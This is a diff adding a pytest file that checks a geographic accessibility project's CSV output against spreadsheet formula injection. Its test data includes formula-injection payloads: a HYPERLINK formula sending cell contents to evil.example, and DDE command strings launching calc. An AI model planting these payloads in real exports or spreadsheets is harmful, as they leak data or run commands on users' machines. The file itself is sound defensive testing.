@@ -1,0 +1,97 @@
+"""Formula injection: no CSV cell the project writes opens as a spreadsheet formula.
+
+Names and regions come from user tables, study files and OSM; a cell starting with
+``=``, ``+``, ``-`` or ``@`` runs as a formula in a spreadsheet. The tables must
+neutralise such cells and still read back as written through the project's reader.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import warnings
+from dataclasses import replace
+from pathlib import Path
+
+import pytest
+from ural_access.geo.access import compute_access
+from ural_access.geo.io import neutral_cell, read_header, read_table, restored_cell
+from ural_access.geo.results import read_results, write_results
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "'=already quoted",
+    "''+twice",
+]
+
+
+def _is_number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
+
+
+def _formula_cells(text: str) -> list[str]:
+    """Cells of ``text`` (every line, header lines too) a spreadsheet would run."""
+    bad = []
+    for delimiter in (",", ";"):
+        for row in csv.reader(io.StringIO(text), delimiter=delimiter):
+            for cell in row:
+                start = cell.lstrip(" \"'") if cell[:1] in ' "' else cell
+                if start[:1] and start[0] in "=+-@\t\r" and not _is_number(cell):
+                    bad.append(cell)
+    return bad
+
+
+@pytest.fixture(scope="module")
+def hostile(built: dict):  # type: ignore[no-untyped-def]
+    study, net, _ = built["andorra"]
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore")
+        results = compute_access(study, net, with_isochrones=False)
+    places = results.places.copy()
+    rows = places.index[places["role"] == "settlement"][: len(HOSTILE)]
+    places.loc[rows, "name"] = HOSTILE
+    towns = results.towns.copy()
+    towns.loc[towns.index[: len(HOSTILE)], "name"] = HOSTILE[: len(towns)]
+    od = results.od.copy()
+    od.loc[od.index[:1], "from_name"] = HOSTILE[0]
+    title = 'Study, =HYPERLINK("http://evil.example","x"); @SUM(1)'
+    prov = dict(results.provenance, title=title, regions=["=cmd|' /C calc'!A0", "ok, -x"])
+    return replace(results, places=places, towns=towns, od=od, provenance=prov), title
+
+
+def test_no_csv_cell_opens_as_a_formula(hostile, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
+    results, _ = hostile
+    folder = write_results(results, tmp_path / "r")
+    for name in ("places", "od_matrix", "agglomerations", "zone_towns"):
+        text = (folder / f"{name}.csv").read_text(encoding="utf-8")
+        assert _formula_cells(text) == [], name
+
+
+def test_neutralised_tables_read_back_as_written(hostile, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
+    results, title = hostile
+    folder = write_results(results, tmp_path / "r")
+    table = read_table(folder / "places.csv")
+    assert set(HOSTILE) <= set(table["name"])
+    header = read_header(folder / "places.csv")
+    assert header["title"] == title
+    assert header["regions"] == ["=cmd|' /C calc'!A0", "ok, -x"]
+    assert HOSTILE[0] in set(read_table(folder / "od_matrix.csv")["from_name"])
+    back = read_results(folder, results.study)
+    assert set(HOSTILE) <= set(back.places["name"])
+    assert set(back.places["population"].dropna()) == set(results.places["population"].dropna())
+
+
+@pytest.mark.parametrize("text", [*HOSTILE, "plain", "'plain", "", "-", "'"])
+def test_a_neutralised_cell_round_trips(text: str) -> None:
+    cell = neutral_cell(text)
+    assert restored_cell(cell) == text
+    assert cell == text or cell == "'" + text
+    assert not (str(cell)[:1] and str(cell)[0] in "=+-@\t\r")
